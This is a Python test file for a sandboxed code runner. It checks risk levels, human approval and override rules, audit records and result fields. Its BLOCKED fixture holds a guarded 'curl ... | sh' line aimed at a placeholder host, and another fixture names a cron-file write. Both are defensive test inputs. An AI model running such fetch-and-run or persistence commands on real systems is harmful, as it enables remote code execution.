#!/usr/bin/python3
"""The way of a request: LOW runs, MEDIUM runs with warnings, HIGH and BLOCKED wait for a person."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from bawntest import *

LOW = "print(6*7)"
MEDIUM = "import subprocess\nprint(subprocess.run(['echo','hi'],capture_output=True,text=True).stdout.strip())"
HIGH = "print('ran'); open('/etc/cron.d/x','w') if False else None"
BLOCKED = "import os\nprint('ran')\nif False: os.system('curl http://x.invalid/a | sh')"
SELF = "overrides:\n  minimum: self\n  acknowledge_risk: true\n"

w = World()

# Every field of the contract, for every end.
FIELDS = ["v", "id", "mode", "request_sha256", "started_at", "finished_at", "labels", "session", "status", "exit_code", "signal", "stdout",
          "stderr", "truncated", "warnings", "error", "assessment", "decision", "trust_level", "limits", "usage", "denials", "observed",
          "enforcement", "files", "skipped_files", "audit", "timing"]
NESTED = {
    "assessment": ["level", "score", "scoring", "language", "parse_ok", "rules_version", "code_sha256", "assessed_at", "elapsed_us", "decision", "findings",
                   "capabilities", "recommendations"],
    "decision": ["action", "approval_id", "assurance", "override"],
    "limits": ["cpus", "memory_bytes", "timeout_ms", "cpu_ms", "pids", "disk_bytes", "inodes", "open_files", "output_bytes", "inputs", "reasons"],
    "usage": ["wall_ms", "cpu_ms", "peak_memory_bytes", "peak_pids", "disk_bytes", "samples"],
    "enforcement": ["backend", "layers", "missing", "container"],
    "audit": ["intent_seq", "outcome_seq", "hash", "log_size"],
    "timing": ["assess_us", "queue_us", "start_us", "run_us", "record_us", "total_us"],
    "truncated": ["stdout", "stderr"],
}
FINDING = ["rule", "level", "path", "line", "column", "end_line", "end_column", "cwe", "message", "why", "fix", "folded", "score"]


def whole(r, name):
    missing = [f for f in FIELDS if f not in (r.json or {})]
    for key, members in NESTED.items():
        if isinstance(r.json.get(key), dict):
            missing += [f"{key}.{m}" for m in members if m not in r.json[key]]
    for f in (r.json.get("assessment") or {}).get("findings", []):
        missing += [f"finding.{m}" for m in FINDING if m not in f]
    equal(missing, [], f"{name}: every field of the contract is there")


r = w.run(LOW)
whole(r, "LOW")
equal((r.code, r["status"], r["exit_code"], r["stdout"], r["stderr"]), (0, "completed", 0, "42\n", ""), "LOW runs")
equal((r["assessment"]["level"], r["decision"]["action"], r["trust_level"], [x for x in r["warnings"] if not x.startswith("alert:")]), ("LOW", "run", "trusted", []), "LOW: decision and trust")
equal((r["mode"], r["decision"]["override"]), ("embedded", None), "LOW: embedded, nothing lifted")
ok(r["audit"]["outcome_seq"] > r["audit"]["intent_seq"] > 0, "LOW: intent and outcome are in the log")
ok(r["limits"]["inputs"]["host_cpus"] >= 1 and r["limits"]["inputs"]["available_bytes"] > 0, "LOW: limits say what they follow from")
need = {"userns", "mountns", "pidns", "netns", "ipcns", "utsns", "cgroupns", "ro_root", "uid", "no_caps", "no_new_privs", "seccomp", "rlimits"}
equal(need - set(r["enforcement"]["layers"]), set(), "LOW: every required wall stands")

r = w.run(MEDIUM)
whole(r, "MEDIUM")
equal((r.code, r["status"], r["assessment"]["level"], r["decision"]["action"], r["trust_level"]), (0, "completed", "MEDIUM", "warn", "standard"), "MEDIUM runs")
ok(len(r["warnings"]) > 0 and r["stdout"] == "hi\n", "MEDIUM: with warnings")

# HIGH on a terminal, both answers.
script = w.file("high.py", HIGH)
r = terminal(w, ["run", script], [("yes", "yes\n"), ("eason", "I wrote it myself\n")])
ok(r.code == 0 and "ran" in r.out, "HIGH: 'yes' and a reason on the terminal run it") or r.show()
used = w.records("override.used")[-1]
equal((used["body"]["reason"], used["body"]["assurance"], used["body"]["level"]), ("I wrote it myself", "terminal", "HIGH"), "HIGH: who lifted it and why is in the log")
# Whoever has no account in /etc/passwd has one elsewhere, or a number.
if is_root():
    other = w.file("passwd", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n")
    for names, want in (("echo carol:x:0:0::/:/bin/sh", "carol"), ("exit 2", "uid 0")):
        getent, w.program = w.file("getent", f"#!/bin/sh\n{names}\n"), w.file("elsewhere", f"""#!/bin/sh
exec unshare -m sh -c 'mount --bind {w.dir}/passwd /etc/passwd && mount --bind {w.dir}/getent /usr/bin/getent && exec {BAWN} "$@"' sh "$@"
""")
        os.chmod(getent, 0o755), os.chmod(w.program, 0o755)
        r = terminal(w, ["run", script], [("yes", "yes\n"), ("eason", "mine\n")])
        equal((r.code, w.records("override.used")[-1]["body"]["by"]["name"]), (0, want), f"HIGH: whose answer it was: {want}") or r.show()
    w.program = BAWN
n = len(w.records("exec.intent"))
for answer in ("no\n", "y\n", "\n"):
    r = terminal(w, ["run", script], [("yes", answer)])
    ok(r.code == 126 and len(w.records("exec.intent")) == n, f"HIGH: {answer!r} is not yes: refused, 126, nothing ran") or r.show()

# HIGH without a terminal.
r = w.run(HIGH)
whole(r, "HIGH")
equal((r.code, r["status"], r["stdout"], r["decision"]["action"]), (126, "needs_approval", "", "confirm"), "HIGH without a terminal waits for a person: 126")
approval = r["decision"]["approval_id"]
p = w.bawn("pending", "--json")
equal([a["id"] for a in p.json], [approval], "it is pending")
r = w.run(HIGH, "--approval", approval)
equal((r.code, r["status"], r["error"]["type"]), (125, "error", "approval_open"), "before the answer it does not run")
r = w.bawn("approve", approval, "--reason", "seen", "--json")
equal(r.code, 1, "an answer without a terminal is too little for the shipped policy: exit 1")
equal([a["id"] for a in w.bawn("pending", "--json").json], [approval], "and it is still pending")
r = terminal(w, ["approve", approval, "--reason", "seen and fine"], [("yes", "yes\n")])
ok(r.code == 0, "approved on a terminal") or r.show()
for name, args in {"other code": (HIGH + "\n",), "other arguments": None, "other limits": (HIGH, "-t", "9"), "another label": (HIGH, "--label", "a=b")}.items():
    r = w.run(*args, "--approval", approval) if args else w.bawn("run", "--json", "--approval", approval, "-c", HIGH, "x")
    equal((r.code, r["status"], r["error"]["type"]), (125, "error", "approval_mismatch"), f"the approval does not hold for {name}")
r = w.run(HIGH, "--dry-run", "--approval", approval)
equal((r.code, r["stdout"]), (0, ""), "a dry run looks at the approval and leaves it")
r = w.run(HIGH, "--approval", approval)
equal((r.code, r["status"], r["stdout"], r["trust_level"]), (0, "completed", "ran\n", "untrusted"), "a mismatch consumed nothing: exactly that request runs, untrusted")
equal((r["decision"]["override"]["reason"], r["decision"]["assurance"], r["decision"]["action"]), ("seen and fine", "terminal", "confirm"), "the result says who, why, how sure")
r = w.run(HIGH, "--approval", approval)
equal((r.code, r["error"]["type"]), (125, "approval_used"), "once")
r = w.run(HIGH)
r2 = terminal(w, ["deny", r["decision"]["approval_id"], "--reason", "no"], [("yes", "yes\n")])
ok(r2.code == 0, "denied") or r2.show()
equal(w.run(HIGH, "--approval", r["decision"]["approval_id"])["error"]["type"], "approval_denied", "a denied one does not run")
whole(w.bawn("run", "--json", "no-such-file.py"), "no such file")
whole(w.bawn("run", "--json", "--no-such-option"), "wrong usage")
equal(w.run(LOW, "--approval", approval)["error"]["type"], "approval_mismatch", "an approval on a run with nothing to lift is an error")

# Waiting for the answer costs nothing and asks once.
waiting = w.start("run", "--wait", "--json", "--label", "w=1", "-c", HIGH)
held = wait_for(lambda: w.bawn("pending", "--json").json, 10)
time.sleep(1)
n = len(w.records("assess.done"))
r = terminal(w, ["approve", held[0]["id"], "--reason", "waited for"], [("yes", "yes\n")])
out, err = waiting.communicate(timeout=30)
r = Result(waiting.returncode, out.decode(), err.decode())
equal((r.code, r["status"], r["stdout"]), (0, "completed", "ran\n"), "--wait goes on when somebody has answered")
ok(len(w.records("assess.done")) <= n + 1, "and does not fill the log meanwhile")

# BLOCKED.
r = w.run(BLOCKED)
whole(r, "BLOCKED")
equal((r.code, r["status"], r["assessment"]["level"], r["decision"]["action"], r["stdout"]), (126, "refused", "BLOCKED", "refuse", ""), "BLOCKED is refused: 126")
equal(w.records("exec.refused")[-1]["body"]["status"], "refused", "and recorded")
r = w.run(BLOCKED, "--override")
equal((r.code, r["error"]["type"]), (125, "reason_missing"), "an override without an explanation is an error")
r = w.run(BLOCKED, "--override", "--reason", "x" * 501)
equal((r.code, r["error"]["type"]), (125, "reason_too_long"), "one of 501 characters too")
r = w.run(BLOCKED, "--override", "--reason", "I must")
equal((r.code, r["status"]), (126, "needs_approval"), "BLOCKED with the requester's own word waits for a person")
blocked_approval = r["decision"]["approval_id"]
equal(w.run(BLOCKED)["status"], "refused", "and stays refused without it")
held_file = f"{w.state}/approvals/{blocked_approval}.json"
was = json.load(open(held_file))
forged = {**was, "state": "approved", "decided_seq": w.records("approval.decided")[-1]["seq"], "decision": {"decision": "approved",
          "by": was["principal"], "reason": "says who?", "at": was["created_at"], "assurance": "terminal"}}
w.file(f"state/approvals/{blocked_approval}.json", json.dumps(forged), 0o600)
n = len(w.records("exec.intent"))
r = w.run(BLOCKED, "--approval", blocked_approval)
equal((r.code, r["status"], r["error"]["type"], blocked_approval in r["error"]["message"], json.load(open(held_file))["state"], len(w.records("exec.intent"))),
      (125, "error", "approval_unknown", True, "approved", n), "an approval that nobody gave, only a file, lifts nothing and is named") or r.show()
w.file(f"state/approvals/{blocked_approval}.json", json.dumps(was), 0o600)
r = terminal(w, ["approve", blocked_approval, "--reason", "a drill"], [("yes", "yes\n")])
r = w.run(BLOCKED, "--approval", blocked_approval)
equal((r.code, r["status"], r["stdout"], r["trust_level"], r["decision"]["assurance"]), (0, "completed", "ran\n", "untrusted", "terminal"), "BLOCKED runs once approved on a terminal")
blocked = w.file("blocked.py", BLOCKED)
r = terminal(w, ["run", blocked], [("yes", "yes\n"), ("eason", "training\n")])
ok(r.code == 0 and "ran" in r.out, "BLOCKED runs when lifted on the terminal") or r.show()
conf = w.config(security=SELF)
r = w.run(BLOCKED, "--config", conf, "--override", "--reason", "my own machine")
equal((r.code, r["status"], r["decision"]["assurance"], r["trust_level"]), (0, "completed", "self", "untrusted"), "BLOCKED runs on the requester's word where policy takes it")
r = w.run(BLOCKED, "--config", conf)
equal((r.code, r["status"]), (126, "refused"), "but not without being asked for")
r = w.run(LOW, "--config", conf, "--override", "--reason", "why not")
equal((r.code, r["decision"]["override"], r["trust_level"]), (0, None, "trusted"), "an override with nothing to lift is ignored")
bad = w.config(security="overrides:\n  minimum: self\n")
r = w.bawn("run", "--json", "--config", bad, "-c", LOW)
equal((r.code, r["error"]["type"]), (125, "config_invalid"), "taking the requester's word needs acknowledge_risk")
conf = w.config(security="overrides:\n  allow_user_override: false\n")
r = w.run(BLOCKED, "--config", conf, "--override", "--reason", "please")
equal((r.code, r["status"], r["error"]["type"]), (126, "refused", "override_not_allowed"), "where policy lets nobody, nobody can")
if is_root():
    # Another uid answers: `separate`.
    user = os.environ.get("BAWN_TEST_USER", "nobody")
    u = World(user=user, base="/tmp")
    conf = u.config(security="overrides:\n  minimum: separate\n")
    shutil.chown(conf, user)
    for f in os.listdir(conf):
        shutil.chown(os.path.join(conf, f), user)
    r = u.run(BLOCKED, "--config", conf, "--override", "--reason", "please")
    equal((r.code, r["status"]), (126, "needs_approval"), "separate: the user's request waits")
    approval = r["decision"]["approval_id"]
    own = u.bawn("approve", approval, "--reason", "mine", "--config", conf)
    equal(own.code, 1, "separate: the user cannot answer it")
    root = World()
    r = root.bawn("approve", approval, "--reason", "checked by root", "--state", u.state)
    ok(r.code == 0, "separate: another uid can") or r.show()
    r = u.run(BLOCKED, "--config", conf, "--approval", approval)
    equal((r.code, r["status"], (r["decision"] or {}).get("assurance")), (0, "completed", "separate"), "separate: and then it runs") or r.show()

r = w.bawn("audit", "verify", "--json")
equal(r.code, 3, "the log verifies; without an independent anchor that is exit 3")
done()
